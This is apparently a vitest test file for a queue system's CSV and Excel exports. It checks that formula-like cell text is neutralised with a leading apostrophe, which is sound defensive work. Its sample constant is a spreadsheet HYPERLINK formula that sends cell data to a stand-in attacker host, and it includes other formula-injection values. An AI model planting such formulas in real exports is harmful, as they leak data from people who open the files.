import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CommandResult } from '../../common/events.js';
import { cid, http, login, parseCsv, startTestServer, type TestServer } from '../testing.js';
import { safeCell, safeText } from './cells.js';
import { csvChunk, fastCsvChunk } from './tables.js';

const HOSTILE = '=HYPERLINK("http://ev.il/?"&C2,"open")';

describe('formula cells', () => {
  it('text that a spreadsheet would run as a formula gets a leading apostrophe; numbers and plain text stay as they are', () => {
    for (const s of ['=1+1', '+1+2', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '  =1+1', '\u3000＝1+1', '＋1', '－1', '＠x', HOSTILE]) expect(safeText(s)).toBe(`'${s}`);
    for (const s of ['A-012', '職員 一郎', '2026-03-24', '2026/03/24 08:30:00', '-12.5', '+81', '1e3', '', '合計', "'=already"]) expect(safeText(s)).toBe(s);
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(null)).toBeNull();
    // Both CSV writers agree, with numbers (negative too) left numeric.
    const rows = [[HOSTILE, -3.5, 'ok', null, '-1+2']];
    expect(csvChunk(rows, null)).toBe(`"'=HYPERLINK(""http://ev.il/?""&C2,""open"")",-3.5,ok,,'-1+2\r\n`);
    expect(fastCsvChunk(rows, null)).toBe(csvChunk(rows, null));
  });
});

const FORMULA = /^[\s\u3000]*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Every cell that a spreadsheet would read as a formula (and is not a plain number). */
const formulaCells = (cells: unknown[]) => cells.filter((c): c is string => typeof c === 'string' && FORMULA.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));

describe('every export neutralises formula cells (names a resident never sees, but an admin or a sign-in form could set)', () => {
  let srv: TestServer;
  let admin: string;
  let sup: string;
  beforeAll(async () => {
    srv = await startTestServer();
    admin = await login(srv.url, 'admin');
    const ok = async (method: string, path: string, body: unknown, cookie = admin) => {
      const r = await http(srv.url, method, path, body, { cookie });
      if (r.status !== 200) throw new Error(`${method} ${path}: ${JSON.stringify(r.body)}`);
      return r;
    };
    await ok('PATCH', '/api/admin/services/chuo-A', { name: { ja: HOSTILE, en: '+cmd' } });
    await ok('PATCH', '/api/admin/counters/chuo-c1', { name: { ja: '-2+3', en: 'x' } });
    await ok('PATCH', '/api/admin/staff/clerk1', { name: '@SUM(1+1)' });
    const t = await http<{ data: CommandResult }>(srv.url, 'POST', '/api/offices/chuo/tickets', { commandId: cid(), serviceId: 'chuo-A' }, { device: srv.kioskToken });
    expect(t.status).toBe(200);
    const clerk = await login(srv.url, 'clerk1');
    for (const a of ['open', 'call-next', 'start']) await ok('POST', `/api/counters/chuo-c1/${a}`, { commandId: cid() }, clerk);
    srv.clock.advance(5 * 60_000);
    await ok('POST', '/api/counters/chuo-c1/done', { commandId: cid() }, clerk);
    // A hostile sign-in, and an audit row from before this release that stored a typed login raw.
    await http(srv.url, 'POST', '/api/auth/login', { login: HOSTILE, password: 'x' });
    srv.db.prepare("INSERT INTO audit_log (at, office_id, action, target, ip) VALUES (?, NULL, 'auth.login-failed', ?, '-1+cmd')").run(srv.clock.now(), HOSTILE);
    sup = await login(srv.url, 'supervisor');
  }, 60_000);
  afterAll(() => srv.close());

  const text = async (path: string, cookie: string) => {
    const r = await fetch(`${srv.url}${path}`, { headers: { Cookie: cookie } });
    expect(r.status).toBe(200);
    return r.text();
  };

  it('audit.csv', async () => {
    const rows = parseCsv(await text('/api/admin/audit.csv?from=2026-03-24&to=2026-03-24', admin));
    const cells = rows.flat();
    expect(formulaCells(cells)).toEqual([]);
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells).toContain("'-1+cmd");
  });

  it('steps.csv', async () => {
    const rows = parseCsv(await text('/api/reports/steps.csv?offices=chuo&from=2026-03-24&to=2026-03-24', sup));
    expect(rows.length).toBe(2);
    expect(formulaCells(rows.flat())).toEqual([]);
    const [h, r] = rows as [string[], string[]];
    expect(r[h.indexOf('用件')]).toBe(`'${HOSTILE}`);
    expect(r[h.indexOf('窓口')]).toBe("'-2+3");
    expect(r[h.indexOf('職員')]).toBe("'@SUM(1+1)");
    expect(r[h.indexOf('待ち時間(分)')]).toBe('0');
    expect(r[h.indexOf('処理時間(分)')]).toBe('5');
  });

  it('summary.csv by service, counter and clerk', async () => {
    for (const [by, want] of [['service', `'${HOSTILE}`], ['counter', "'-2+3"], ['clerk', "'@SUM(1+1)"]] as const) {
      const rows = parseCsv(await text(`/api/reports/summary.csv?offices=chuo&from=2026-03-24&to=2026-03-24&by=${by}`, sup));
      expect(formulaCells(rows.flat())).toEqual([]);
      expect(rows.map((r) => r[0])).toContain(want);
    }
  });

  it('summary.xlsx (parsed back): formula-like text is neutralised text, numbers stay numbers', async () => {
    const r = await fetch(`${srv.url}/api/reports/summary.xlsx?offices=chuo&from=2026-03-24&to=2026-03-24`, { headers: { Cookie: sup } });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await r.arrayBuffer()) as ArrayBuffer);
    const values: unknown[] = [];
    wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => values.push(c.value))));
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    expect(formulaCells(values)).toEqual([]);
    expect(values).toEqual(expect.arrayContaining([`'${HOSTILE}`, "'-2+3", "'@SUM(1+1)"]));
    const svc = wb.getWorksheet('用件別')!;
    const row = svc.getRow(2);
    expect(row.getCell(1).value).toBe(`'${HOSTILE}`);
    expect(typeof row.getCell(2).value).toBe('number');
  });
});
